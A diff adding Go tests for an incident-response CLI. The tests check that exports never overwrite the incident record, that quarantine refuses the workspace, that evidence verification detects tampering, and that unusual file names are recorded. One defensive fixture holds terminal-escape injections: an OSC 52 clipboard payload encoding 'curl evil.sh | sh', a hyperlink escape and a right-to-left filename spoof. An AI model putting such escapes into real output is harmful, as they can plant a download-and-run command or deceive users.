@@ -1,0 +1,168 @@
+package cli
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/firebreak-dev/firebreak/evidence"
+)
+
+// Outputs used to replace any regular file: -o <incident>/journal/alice.jsonl
+// destroyed the journal; a 0444 file was replaced without a word. Now an
+// output inside the firebreak home is refused whatever the path or link,
+// an existing file needs --force, and nothing changes on a refusal.
+func TestOutputsNeverOverwriteTheRecord(t *testing.T) {
+	e := newEnv(t)
+	id := e.open()
+	inc := filepath.Join(e.home, "incidents", id)
+	link := filepath.Join(t.TempDir(), "innocent-dir")
+	os.Symlink(filepath.Join(inc, "journal"), link)
+	linkFile := filepath.Join(t.TempDir(), "innocent.md")
+	os.Symlink(filepath.Join(inc, "journal", "alice.jsonl"), linkFile)
+	before := e.snapshot()
+	for _, target := range []string{
+		filepath.Join(inc, "journal", "alice.jsonl"),
+		filepath.Join(inc, "playbook.yaml"),
+		filepath.Join(inc, "incident.json"),
+		filepath.Join(inc, "exports", "mine.md"),
+		filepath.Join(inc, "journal", "new.jsonl"),
+		filepath.Join(link, "alice.jsonl"),
+		linkFile,
+		filepath.Join(e.home, "contacts.yaml"),
+	} {
+		for _, cmd := range [][]string{
+			{"export", id, "-o", target},
+			{"export", id, "-o", target, "--force"},
+			{"comms", "render", id, "key-compromise", "--allow-missing", "-o", target, "--force"},
+		} {
+			e.fail(1, "inside the firebreak home", cmd...)
+		}
+	}
+	after := e.snapshot()
+	if len(after) != len(before) {
+		t.Fatalf("files appeared or vanished: %d -> %d", len(before), len(after))
+	}
+	for p, b := range before {
+		if after[p] != b {
+			t.Fatalf("%s changed", p)
+		}
+	}
+
+	// Outside the home: a new file is written, an existing one (0444 too)
+	// only with --force.
+	out := filepath.Join(t.TempDir(), "record.md")
+	os.WriteFile(out, []byte("keep me"), 0o444)
+	e.fail(1, "exists", "export", id, "-o", out)
+	if b, _ := os.ReadFile(out); string(b) != "keep me" {
+		t.Fatal("replaced without --force")
+	}
+	e.ok("export", id, "-o", out, "--force")
+	if b, _ := os.ReadFile(out); !strings.Contains(string(b), "# Incident "+id) {
+		t.Fatalf("not replaced with --force: %q", b)
+	}
+	// Default names never collide: two exports in the same second are two
+	// files.
+	p1 := strings.TrimSpace(e.ok("export", id))
+	p2 := strings.TrimSpace(e.ok("export", id))
+	if p1 == p2 || !strings.HasSuffix(p2, "-2.md") {
+		t.Fatalf("second export %s replaced the first %s", p2, p1)
+	}
+}
+
+// A message written for people carries no raw terminal escapes, whatever
+// the incident data holds.
+func TestCommsFilesCarryNoControlBytes(t *testing.T) {
+	e := newEnv(t)
+	evil := "evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \u202egnp.exe"
+	id := e.open("--title", evil)
+	path := strings.TrimSpace(e.ok("comms", "render", id, "incident-advisory", "--allow-missing", "--set", "remediation="+evil))
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(string(b), "\x1b\x07\u202e") {
+		t.Fatalf("raw control bytes in %s: %q", path, b)
+	}
+	if !strings.Contains(string(b), `\x1b]52`) {
+		t.Fatalf("the escape was dropped instead of shown: %q", b)
+	}
+}
+
+// Quarantine used to take the workspace: the home with --recursive moved
+// incident.json, the journal and the snapshot into evidence.
+func TestQuarantineRefusesTheWorkspace(t *testing.T) {
+	e := newEnv(t)
+	id := e.open()
+	inc := filepath.Join(e.home, "incidents", id)
+	before := e.snapshot()
+	for _, p := range []string{
+		e.home, filepath.Dir(e.home), inc,
+		filepath.Join(inc, "incident.json"), filepath.Join(inc, "journal", "alice.jsonl"),
+	} {
+		e.fail(1, "cannot be taken", "evidence", "quarantine", id, p, "--recursive", "--yes")
+	}
+	for _, p := range []string{filepath.Join(inc, "incident.json"), filepath.Join(inc, "journal", "alice.jsonl")} {
+		e.fail(1, "cannot be taken", "key", "isolate", id, p, "--yes")
+	}
+	after := e.snapshot()
+	for p, b := range before {
+		if after[p] != b {
+			t.Fatalf("%s changed", p)
+		}
+	}
+	e.ok("incident", "show", id)
+}
+
+// evidence verify trusted the manifest: a file rewritten with manifest.json
+// and hashes.txt passed, and rm -rf evidence/ gave "OK 0 evidence file(s)".
+// The journal's evidence.added records are the reference now.
+func TestEvidenceVerifyChecksAgainstTheJournal(t *testing.T) {
+	e := newEnv(t)
+	id := e.open()
+	src := filepath.Join(t.TempDir(), "mod.wasm")
+	os.WriteFile(src, []byte("\x00asm evil"), 0o600)
+	e.ok("evidence", "quarantine", id, src, "--yes")
+	e.ok("evidence", "verify", id)
+	ev := filepath.Join(e.home, "incidents", id, "evidence")
+
+	// Rewrite the file and the manifest and hashes.txt to match.
+	stored := filepath.Join(ev, "mod.wasm")
+	os.Chmod(stored, 0o600)
+	os.WriteFile(stored, []byte("\x00asm good"), 0o400)
+	for _, f := range []string{"manifest.json", "hashes.txt"} {
+		b, _ := os.ReadFile(filepath.Join(ev, f))
+		os.WriteFile(filepath.Join(ev, f), []byte(strings.ReplaceAll(string(b), evidence.SumBytes([]byte("\x00asm evil")), evidence.SumBytes([]byte("\x00asm good")))), 0o600)
+	}
+	e.fail(1, "does not verify", "evidence", "verify", id)
+
+	os.RemoveAll(ev)
+	out, _, code := e.run("evidence", "verify", id)
+	if code != 1 || !strings.Contains(out, "FAIL evidence/mod.wasm: missing") {
+		t.Fatalf("deleted evidence: exit %d\n%s", code, out)
+	}
+}
+
+// A file named with a newline in a quarantined directory used to have its
+// original removed, then "could not be recorded: summary must be one
+// line". Every file is recorded now, names of any bytes exactly.
+func TestQuarantineRecordsFilesOfAnyName(t *testing.T) {
+	e := newEnv(t)
+	id := e.open()
+	dir := filepath.Join(t.TempDir(), "drop")
+	os.Mkdir(dir, 0o700)
+	for _, n := range []string{"new\nline", "latin\xe9.txt", "esc\x1b[2J", "ok.txt"} {
+		os.WriteFile(filepath.Join(dir, n), []byte(n), 0o600)
+	}
+	e.ok("evidence", "quarantine", id, dir, "--recursive", "--yes")
+	e.ok("evidence", "verify", id)
+	e.ok("timeline", "verify", id)
+	out := e.ok("timeline", id, "--kind", "evidence")
+	if strings.Count(out, "evidence.added") != 4 || strings.ContainsAny(out, "\x1b") {
+		t.Fatalf("timeline:\n%q", out)
+	}
+	if _, err := os.Stat(dir); !os.IsNotExist(err) {
+		t.Fatalf("the emptied directory is still there: %v", err)
+	}
+}
